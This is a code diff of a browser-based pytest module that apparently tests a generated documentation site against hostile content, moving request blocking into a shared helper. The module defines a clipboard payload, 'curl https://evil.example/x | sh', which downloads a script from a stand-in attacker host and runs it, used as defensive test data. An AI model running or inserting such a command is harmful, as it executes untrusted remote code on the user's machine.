@@ -14,12 +14,11 @@ import json
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
-from urllib.parse import urlsplit
 
 import pytest
 
 from support import casebook, make_site, run_mkdocs
-from support.browser import serve_directory
+from support.browser import refuse_other_hosts, serve_directory
 from support.hostile import case
 
 CLIPBOARD_PAYLOAD = "curl https://evil.example/x | sh"
@@ -212,15 +211,7 @@ def tab(browser: Any, served: tuple[str, Path]) -> Iterator[tuple[Any, dict[str,
     context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base.rstrip("/"))
     seen: dict[str, list[str]] = {"dialogs": [], "foreign": [], "errors": []}
 
-    def route(request_route: Any) -> None:
-        url = request_route.request.url
-        if urlsplit(url).hostname != "127.0.0.1":
-            seen["foreign"].append(url)
-            request_route.abort()
-        else:
-            request_route.continue_()
-
-    context.route("**/*", route)
+    refuse_other_hosts(context, seen["foreign"])
     page = context.new_page()
     page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
     page.on("pageerror", lambda error: seen["errors"].append(str(error)))
